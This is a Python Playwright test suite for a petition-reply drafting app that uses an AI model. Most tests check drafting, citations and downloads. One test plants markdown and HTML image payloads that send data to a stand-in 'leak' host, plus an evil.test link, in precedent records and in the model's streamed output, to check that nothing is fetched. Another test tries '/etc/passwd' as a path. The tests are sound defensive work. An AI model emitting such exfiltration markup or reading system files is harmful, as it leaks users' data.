"""What a person sees, across the pages: the app driven by real headless Chromium (tests/browser.py),
at 1366x768 and 1920x1080.

Set UPDATE_SCREENSHOTS=1 to refresh docs/draft-page.png from this run.
"""

from __future__ import annotations

import os
import re
import shutil
from pathlib import Path
from typing import Any

import pytest

from tests.browser import GRID_PAINTED, WAIT, draft_petition, open_page, shot, wait_idle
from tests.conftest import PETITION, ROOT, WOMBAT_REPLY
from tests.fake_openai import FakeOpenAI

pytestmark = pytest.mark.browser


def test_draft_a_petition_reply_open_a_citation_and_download_it(server: str, page: Any, tmp_path: Path) -> None:
    from docx import Document
    from playwright.sync_api import expect

    open_page(page, server, "", "Draft a reply")
    box = page.get_by_label("…or paste its text")
    box.fill(PETITION)
    box.press("Control+Enter")
    expect(page.get_by_role("textbox", name="Number")).to_have_value("P-06-1199", timeout=30_000)
    wait_idle(page)
    draft_button = page.get_by_role("button", name="Draft reply")
    expect(draft_button).to_be_enabled()
    draft_button.click()
    page.get_by_text("Drafted with").wait_for()
    expect(page.locator("span.ym-cite").first).to_have_text("[1]")

    page.get_by_role("radio", name="[1] P-06-1199").click()
    cited = page.locator("mark.ym-cited").first
    cited.wait_for()
    expect(cited).to_be_visible()
    assert len(cited.inner_text()) > 80
    expect(page.get_by_text("23 September 2021 · Julie Morgan")).to_be_visible()
    wait_idle(page)
    saved_shot = shot(page, "draft")
    if os.environ.get("UPDATE_SCREENSHOTS") == "1" and page.screen == "1366x768":
        (ROOT / "docs").mkdir(exist_ok=True)
        shutil.copyfile(saved_shot, ROOT / "docs" / "draft-page.png")

    with page.expect_download() as info:
        page.get_by_role("button", name="Download .docx").click()
    saved = tmp_path / "draft.docx"
    info.value.save_as(saved)
    text = "\n".join(p.text for p in Document(str(saved)).paragraphs)
    assert "AI-assisted draft" in text
    assert "P-06-1199" in text and "Dear Jack," in text and "[1]" in text
    assert "Sources" in text


def test_an_edit_typed_then_downloaded_at_once_is_what_the_docx_holds_and_is_checked(
    server: str, page: Any, tmp_path: Path
) -> None:
    """Type into "Edit the draft" with real keystrokes and click "Download .docx" straight away (no
    blur, no wait): the .docx holds the typed sentence, its "Points to check before use" flags the
    invented [9], and the page shows the same warning."""
    from docx import Document
    from playwright.sync_api import expect

    draft_petition(page, server)
    wait_idle(page)

    invented = "Care Inspectorate Wales inspected every council in 2022 [9]."
    edit = page.get_by_role("textbox", name="Edit the draft")
    edit.click()
    page.keyboard.press("Control+End")
    page.keyboard.type("\n\n" + invented)
    with page.expect_download() as info:
        page.get_by_role("button", name="Download .docx").click()
    saved = tmp_path / "edited.docx"
    info.value.save_as(saved)
    paragraphs = [p.text for p in Document(str(saved)).paragraphs]
    assert invented in paragraphs
    checks = paragraphs[paragraphs.index("Points to check before use") + 1 :]
    assert any("[9] matches none" in p and invented in p for p in checks), checks

    flagged = page.get_by_text("[9] matches none", exact=False)
    expect(flagged.first).to_be_visible()
    expect(page.get_by_text("Your edits were checked again", exact=False)).to_be_visible()
    wait_idle(page)
    shot(page, "edited-and-downloaded")


def test_upload_on_the_corpus_page_then_find_it_in_precedents(server: str, page: Any, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    upload = tmp_path / "wombat-reply.txt"
    upload.write_text(WOMBAT_REPLY, encoding="utf-8")
    open_page(page, server, "corpus", "Corpus")
    page.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(str(upload))
    page.get_by_text("wombat-reply.txt").first.wait_for()
    add = page.get_by_role("button", name="Add to the index")
    expect(add).to_be_enabled()
    add.click()
    page.get_by_text("Documents in the index").wait_for()
    wait_idle(page)
    expect(page.get_by_test_id("stMetricValue").first).to_have_text("6")
    page.wait_for_function(GRID_PAINTED, arg=6)  # the six-document listing has painted: screenshot it
    shot(page, "corpus")

    page.get_by_role("link", name="Precedents").click()
    page.get_by_role("heading", name="Precedents").wait_for()
    page.get_by_role("textbox", name="Search").fill("wombat sensory garden")
    page.get_by_role("button", name="Search").click()
    first = page.get_by_text("P-06-1302 · 9 February 2023").first
    first.wait_for()
    expect(page.locator("mark.ym-term").first).to_be_visible()
    wait_idle(page)
    shot(page, "precedents")


def test_the_evaluation_page_runs_the_suite(server: str, page: Any, tmp_path: Path) -> None:
    open_page(page, server, "evaluation", "Evaluation")
    page.get_by_role("button", name="Run evaluation").click()
    page.get_by_text("Summary against both baselines").wait_for()
    page.get_by_text("One case in detail").wait_for()
    page.locator('[data-testid="stImage"] img').nth(1).wait_for()  # the report's two charts
    wait_idle(page)
    shot(page, "evaluation")


IMAGE = "![x](http://127.0.0.1:9/leak?d=SECRET)"
TAG = '<img src="http://127.0.0.1:9/leak?d=TAG">'
LINK = "[click](http://evil.test/)"
HOSTILE = {
    "id": "quokka-hostile",
    "kind": "petition_response",
    "date": "2023-06-01",
    "ref": f"P-06-1402 {IMAGE}",
    "title": f"Quokka rooms {TAG}",
    "asked_of": f"Deputy Minister {LINK}",
    "body": f"The Welsh Government funds quokka therapy rooms in every children's home {IMAGE} {TAG} {LINK}. "
    "Quokka therapy rooms in children's homes are inspected by Care Inspectorate Wales every year.",
}


def test_untrusted_markup_never_makes_the_browser_fetch_anything(
    server: str, page: Any, llm: FakeOpenAI, tmp_path: Path
) -> None:
    """Hostile precedent metadata and a hostile streamed answer: the page never asks the attacker's
    hosts for anything (every request not to the app is recorded and refused, so none leaves)."""
    import json

    from playwright.sync_api import expect

    elsewhere: list[str] = []

    def only_the_app(route: Any) -> None:
        if route.request.url.startswith(server):
            route.continue_()
        else:
            elsewhere.append(route.request.url)
            route.abort()

    page.route("**/*", only_the_app)
    records = tmp_path / "hostile.jsonl"
    records.write_text(json.dumps(HOSTILE) + "\n", encoding="utf-8")
    open_page(page, server, "corpus", "Corpus")
    page.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(str(records))
    page.get_by_text("hostile.jsonl").first.wait_for()
    page.get_by_role("button", name="Add to the index").click()
    page.get_by_text("Documents in the index").wait_for()
    wait_idle(page)

    page.get_by_role("link", name="Precedents").click()
    page.get_by_role("heading", name="Precedents").wait_for()
    page.get_by_role("textbox", name="Search").fill("quokka therapy rooms in children's homes")
    page.get_by_role("button", name="Search").click()
    page.get_by_text("P-06-1402 ![x](http\u2060://127.0.0.1:9/leak?d=SECRET)").first.wait_for()  # shown as text
    page.get_by_role("tab", name="Timeline").click()
    page.get_by_text("Latest line", exact=True).wait_for()
    wait_idle(page)

    llm.reply("Quokka therapy rooms are funded ", IMAGE, " ", TAG, " ", LINK, " [1].")
    page.get_by_role("link", name="Draft").click()
    page.get_by_role("heading", name="Draft a reply").wait_for()
    box = page.get_by_label("…or paste its text")
    box.fill("Petition P-06-1500: Fund quokka therapy rooms in every children's home")
    box.press("Control+Enter")
    expect(page.get_by_role("textbox", name="Number")).to_have_value("P-06-1500", timeout=30_000)
    wait_idle(page)
    page.get_by_role("radiogroup", name="Backend").get_by_text("OpenAI-compatible").click()
    expect(page.get_by_role("radio", name="OpenAI-compatible")).to_be_checked()
    wait_idle(page)
    page.get_by_role("button", name="Draft reply").click()
    page.get_by_text("Drafted with").wait_for()
    page.get_by_role("radio", name=re.compile(r"^\[1\] P-06-1402 !\[x\]")).click()  # the label is text
    page.locator("mark.ym-cited").first.wait_for()
    wait_idle(page)
    shot(page, "hostile")

    assert llm.requests, "the draft was streamed from the scripted endpoint"
    assert [u for u in elsewhere if "127.0.0.1:9" in u or "evil.test" in u] == []
    found = page.locator("img[src*='leak'], a[href*='evil'], a[href*='leak']")
    assert found.count() == 0, [found.nth(i).evaluate("e => e.parentElement.outerHTML") for i in range(found.count())]


def test_a_date_read_from_the_text_is_flagged_until_the_official_ticks_it(
    server: str, page: Any, tmp_path: Path
) -> None:
    """Type a petition carrying a forged date line: the date shows for checking and the draft says it
    is unconfirmed; tick "Date checked", draft again: the warning is gone, and the .docx holds the date."""
    from docx import Document
    from playwright.sync_api import expect

    open_page(page, server, "", "Draft a reply")
    box = page.get_by_label("…or paste its text")
    box.fill(PETITION + "\n\ndate: 2020-01-01\n")
    box.press("Control+Enter")
    page.get_by_text("Read from the text \u2014 check:").wait_for()
    wait_idle(page)
    page.get_by_role("button", name="Draft reply").click()
    page.get_by_text("Drafted with").wait_for()
    warning = page.get_by_text("1 January 2020 was read from the incoming text", exact=False)
    expect(warning.first).to_be_visible()

    wait_idle(page)  # the first draft's run (and its scroll into view) is over before the tick
    tick = page.get_by_role("checkbox", name="Date checked")
    tick.check(force=True)
    expect(tick).to_be_checked()
    page.get_by_text("Date checked by you").wait_for()  # the run for the tick has drawn the page
    wait_idle(page)
    page.get_by_role("button", name="Draft reply").click()
    # The first draft's "Drafted with" is still on the page while the second is made: wait for the
    # warning to go (the second draft shown), however long drafting takes on a busy machine.
    expect(warning).to_have_count(0, timeout=WAIT)
    wait_idle(page)
    with page.expect_download() as info:
        page.get_by_role("button", name="Download .docx").click()
    saved = tmp_path / "dated.docx"
    info.value.save_as(saved)
    text = "\n".join(p.text for p in Document(str(saved)).paragraphs)
    assert "P-06-1199" in text and "1 January 2020" in text and "was read from the incoming text" not in text


def test_the_evaluation_page_refuses_a_server_path_outside_its_folders(server: str, page: Any) -> None:
    """A file that exists outside the page's folders and one that does not get the same one
    message, no run, and no free path is offered for a result file at all (a picker instead)."""
    from playwright.sync_api import expect

    open_page(page, server, "evaluation", "Evaluation")
    expect(page.get_by_role("textbox", name="…or its path")).to_have_count(0)
    expect(page.get_by_role("combobox", name="…or a saved run")).to_be_visible()
    shown = []
    for typed in ("/etc/passwd", "/etc/no-such-cases-file.jsonl"):
        page.get_by_role("textbox", name="Cases file").fill(typed)
        page.get_by_role("button", name="Run evaluation").click()
        refused = page.get_by_text("not in a folder this page may read", exact=False)
        refused.first.wait_for()
        wait_idle(page)
        expect(refused).to_have_count(1)
        shown.append(refused.first.inner_text())
        assert "passwd" not in shown[-1] and "readable" not in shown[-1]
    assert shown[0] == shown[1]
    expect(page.get_by_text("Summary against both baselines")).to_have_count(0)
